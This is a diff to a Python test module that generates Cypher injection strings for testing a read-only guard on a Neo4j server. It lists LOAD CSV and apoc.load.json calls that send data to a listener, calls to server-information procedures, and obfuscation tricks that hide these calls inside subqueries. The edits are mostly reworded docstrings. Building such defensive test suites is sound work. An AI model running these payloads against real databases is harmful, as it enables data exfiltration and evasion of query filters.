@@ -1,9 +1,7 @@
-"""Cypher texts that do more than read a graph: what they want, where they hide it, and how they
-disguise it.
+"""Cypher texts that do more than read a graph: what they try, where it is hidden, and how it is disguised.
 
-`attacks(url)` gives them all; `url` is a listener that none of them may reach. A few are for one
-version of the language alone; a server that does not know it refuses them by itself. `HARMLESS` are
-texts that only read, though words in them look as if.
+`attacks(url)` yields all of them; `url` is a listener that none may reach. A few are for one version of Cypher; servers
+of other versions refuse them. `HARMLESS` are texts that only read, with words that look otherwise.
 """
 
 from __future__ import annotations
@@ -11,14 +9,12 @@ from __future__ import annotations
 from collections.abc import Callable, Iterator
 from typing import Final, NamedTuple
 
-#: Words of a file beside the server that nobody may see.
+#: The content of a file on the server that nobody may read.
 CANARY: Final = "the-canary-sings"
 
 
 class Attack(NamedTuple):
-    """A text, what it wants ("send", "file", "procedure", "server", "write"), and whether the
-    server's plan can show that.
-    """
+    """A text, its aim ("send", "file", "procedure", "server", "write"), and whether the server's plan can show that."""
 
     name: str
     text: str
@@ -26,7 +22,7 @@ class Attack(NamedTuple):
     planned: bool = True
 
 
-#: What is asked for, as the body of a subquery that gives `l`; `@` is a path of the listener.
+#: Attacks as bodies of subqueries that return `l`; `@` is a path of the listener.
 BODIES: Final = {
     "send": ("LOAD CSV FROM '@' AS l RETURN l", "send"),
     "send headers": ("LOAD CSV WITH HEADERS FROM '@' AS l RETURN l", "send"),
@@ -37,7 +33,7 @@ BODIES: Final = {
     "connections": ("CALL dbms.listConnections() YIELD connectionId AS l RETURN l", "procedure"),
     "settings shown": ("SHOW SETTINGS YIELD name AS l RETURN l", "server"),
 }
-#: Where a subquery may stand; `#` is its body.
+#: Places for a subquery; `#` is its body.
 PLACES: Final = {
     "collect": "RETURN COLLECT { # } AS x",
     "list": "RETURN [COLLECT { # }] AS x",
@@ -78,7 +74,7 @@ PLACES: Final = {
     "label": "MATCH (n:$(head(COLLECT { WITH 1 AS one # }) + 'x')) RETURN n.word AS x",
     "argument of a procedure": "CALL db.index.fulltext.queryNodes('a', toString(COUNT { # })) YIELD node RETURN node.word AS x",
 }
-#: Only in Cypher 25.
+#: Places that exist only in Cypher 25.
 NEW_PLACES: Final = {
     "text with expressions": "CYPHER 25 RETURN s'it is {COUNT { # }}' AS x",
     "text with expressions in a list": 'CYPHER 25 RETURN [i IN [1] | S"{COUNT { # }}"] AS x',
@@ -92,11 +88,11 @@ NEW_PLACES: Final = {
 
 
 def _escaped(word: str) -> str:
-    """A word whose second letter is an escape."""
+    """Return a word with its second letter as an escape."""
     return f"{word[0]}\\u{ord(word[1]):04X}{word[2:]}"
 
 
-#: How a body may be written so that it is not seen.
+#: Ways of disguising a body.
 DISGUISES: Final[dict[str, Callable[[str], str]]] = {
     "small letters": lambda body: body.replace("LOAD CSV", "load csv").replace("CALL ", "call "),
     "mixed letters": lambda body: body.replace("LOAD CSV", "lOaD cSv").replace("CALL ", "cAlL "),
@@ -128,7 +124,7 @@ DISGUISES: Final[dict[str, Callable[[str], str]]] = {
 }
 _DISGUISED_IN: Final = ("list comprehension", "case", "subquery")
 
-#: Whole texts.
+#: Complete texts, and their aims.
 STATEMENTS: Final = {
     "LOAD CSV FROM '@' AS l RETURN l": "send",
     "LOAD CSV WITH HEADERS FROM '@' AS l FIELDTERMINATOR ';' RETURN l": "send",
@@ -231,8 +227,8 @@ STATEMENTS: Final = {
     "RETURN `apoc`.`load`./**/`json`('@') AS x": "send",
     "RETURN gds.util.asNode(1) AS x": "procedure",
 }
-#: Texts that a server's plan shows nothing of, since there is nothing to show: words before a
-#: query, and where it is asked.
+#: Texts whose aim a server's plan cannot show: words before a query, the database it is sent to, and
+#: functions of the file being loaded.
 UNPLANNED: Final = {
     "USE neo4j RETURN 1 AS x": "server",
     "USE system SHOW DATABASES": "server",
@@ -246,28 +242,28 @@ _BEGINNINGS: Final = ("EXPLAIN", "// a comment\nEXPLAIN", "CYPHER debug", "CYPHE
 
 
 def attacks(url: str) -> Iterator[Attack]:
-    """All of them, each with a path of the listener of its own."""
+    """Yield all attacks, each with its own path of the listener."""
     number = 0
 
-    def made(name: str, text: str, wants: str, planned: bool = True) -> Attack:
+    def attack(name: str, text: str, wants: str, planned: bool = True) -> Attack:
         nonlocal number
         number += 1
         return Attack(name, text.replace("@", f"{url}/{number}"), wants, planned)
 
     for text, wants in STATEMENTS.items():
-        yield made(text, text, wants, not text.startswith(_BEGINNINGS))
+        yield attack(text, text, wants, not text.startswith(_BEGINNINGS))
     for text, wants in UNPLANNED.items():
-        yield made(text, text, wants, planned=False)
+        yield attack(text, text, wants, planned=False)
     for place, host in (PLACES | NEW_PLACES).items():
         for name, (body, wants) in BODIES.items():
             prefix = "CYPHER 25 " if wants == "server" and place in PLACES else ""
             if place != "label" or body.startswith("LOAD"):
-                yield made(f"{name} in {place}", prefix + host.replace("#", body), wants)
-    for disguise, written in DISGUISES.items():
+                yield attack(f"{name} in {place}", prefix + host.replace("#", body), wants)
+    for disguise, disguised in DISGUISES.items():
         for place in _DISGUISED_IN:
             for name in ("send", "database"):
                 body, wants = BODIES[name]
-                yield made(f"{name} in {place}, {disguise}", PLACES[place].replace("#", written(body)), wants)
+                yield attack(f"{name} in {place}, {disguise}", PLACES[place].replace("#", disguised(body)), wants)
 
 
 #: Texts that only read.
